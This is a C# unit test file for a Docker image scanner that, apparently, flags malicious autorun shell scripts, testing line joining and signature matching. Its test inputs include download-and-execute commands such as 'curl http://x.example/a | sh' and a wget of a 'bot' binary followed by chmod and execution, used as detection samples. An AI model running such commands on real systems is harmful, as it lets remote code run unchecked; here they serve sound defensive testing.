using DockerScan.Scanners.Autorun.Text;

namespace DockerScan.Scanners.Tests.Autorun.Text;

public sealed class ScriptTextTests
{
    [Theory]
    [InlineData("a\nb", "1 a", "2 b")]
    [InlineData("a \\\nb\nc", "1 a b", "3 c")]
    [InlineData("a |\n b &&\nc", "1 a |  b && c")]
    [InlineData("# x\na", "2 a")]
    [InlineData("#!/bin/sh\na", "1 #!/bin/sh", "2 a")]
    [InlineData("# x \\\na", "2 a")]
    [InlineData("a # x \\\nb", "1 a # x b", "1 a # x \\", "2 b")]
    [InlineData("a\r\nb\r", "1 a", "2 b")]
    [InlineData("a\f\u2028b", "1 a\f\u2028b")]
    [InlineData("a \\", "1 a ")]
    public void LogicalLines_Joining_KeepsNumbers(string script, params string[] expected)
        => Assert.Equal(expected, ScriptText.LogicalLines(script).Select(line => $"{line.Number} {line.Text}"));

    [Fact]
    public void Matches_AcrossTheCutOfALongLine_IsFound()
    {
        foreach (var before in Enumerable.Range(ScriptText.MaxPiece - 60, 70))
        {
            var line = new string('x', before) + "; curl http://x.example/a | sh";

            Assert.Contains(ScriptText.Matches(TestSignatures.All.Scripts, line, TestContext.Current.CancellationToken), hit => hit.Signature.Id == "download-and-run.pipe-shell");
        }
    }

    [Fact]
    public void Matches_FarApart_IsNotJoined()
        => Assert.Empty(ScriptText.Matches(TestSignatures.All.Scripts,
            "wget http://x.example/bot -O /opt/b\na\nb\nc\nd\ne\nf\nchmod +x /opt/c\n./d", TestContext.Current.CancellationToken));

    [Fact]
    public void Matches_Cancelled_Throws()
        => Assert.ThrowsAny<OperationCanceledException>(() => ScriptText.Matches(TestSignatures.All.Scripts, "a", new CancellationToken(true)).Count());
}
